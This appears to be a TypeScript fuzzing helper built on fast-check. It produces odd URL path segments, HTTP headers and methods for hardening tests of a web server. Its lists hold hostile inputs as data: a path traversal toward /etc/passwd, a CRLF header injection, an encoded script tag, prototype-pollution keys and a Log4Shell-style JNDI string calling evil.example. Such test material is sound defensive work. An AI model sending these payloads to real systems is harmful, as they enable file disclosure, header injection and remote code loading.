import fc, { type Arbitrary } from 'fast-check';
import type { Attempt } from './attempt.js';
import { canary, inAddress } from './nasty-text.js';

/** A part of a path as nobody should write it. All of them may stand in the first line of a request. */
export const oddSegment: Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '.',
    '..',
    '%2e%2e',
    '..%2f..%2fetc%2fpasswd',
    '%00',
    '%ff',
    '%c0%af',
    '%',
    '%zz',
    '%u0041',
    '%ed%a0%80',
    'asylum%20',
    'ASYLUM',
    'asylum;x=y',
    'asylum/',
    'asylum//',
    '__proto__',
    'constructor',
    'list:updates',
    'list%3Aupdates',
    ':id',
    '*',
    '{id}',
    '$%7B7*7%7D',
    'a&b=c',
    `${canary}%0d%0aSet-Cookie:%20x=y`,
    `${canary}%3Cscript%3E`,
    'A'.repeat(43),
    'a'.repeat(7000),
  ),
  fc.stringMatching(/^[A-Za-z0-9_-]{43}$/),
  fc.string({ unit: 'binary', maxLength: 6 }).map((text) => canary + inAddress(text)),
);

const odd: readonly (readonly [string, string])[] = [
  ['Content-Encoding', 'gzip'],
  ['Content-Encoding', 'identity, br'],
  ['Idempotency-Key', ''],
  ['Idempotency-Key', 'short'],
  ['Idempotency-Key', 'k'.repeat(129)],
  ['Idempotency-Key', 'key with spaces in it'],
  ['Idempotency-Key', 'key-of-émigré-with-accents'],
  ['Origin', 'null'],
  ['Origin', 'https://evil.example'],
  ['Origin', 'data:text/html,x'],
  ['Origin', `https://${'a'.repeat(400)}.example`],
  ['Accept-Language', '*;q=0, en;q=x, ,,,;;'],
  ['Accept-Language', 'en,'.repeat(2000)],
  ['Accept-Language', `${canary}-${'x'.repeat(200)}`],
  ['Accept', 'application/xml'],
  ['If-None-Match', '*'],
  ['If-None-Match', '"'.repeat(1000)],
  ['X-Forwarded-For', '::ffff:1.2.3.4, unknown, 999.1.1.1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Proto', 'javascript'],
  ['Forwarded', 'for="[::1'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['Cookie', 'a=b; '.repeat(1000)],
  ['Referer', 'https://evil.example/?Kanarie'],
  ['User-Agent', '${jndi:ldap://evil.example/a}'],
  ['Sec-Fetch-Site', 'cross-site'],
  ['Range', 'bytes=0-,-1'],
  ['Last-Event-ID', '9'.repeat(400)],
  ['Expect', ''],
];

/** Up to three headers that say what they should not, beside those that belong. */
export const oddHeaders = (beside: Arbitrary<Attempt['headers']>): Arbitrary<Attempt['headers']> =>
  fc
    .tuple(beside, fc.uniqueArray(fc.constantFrom(...odd), { maxLength: 3, selector: ([name]) => name }))
    .map(([own, more]) => [...own.filter(([name]) => !more.some(([other]) => other === name)), ...more]);

export const oddMethod = (method: string): Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constant(method) },
    fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND'),
  );
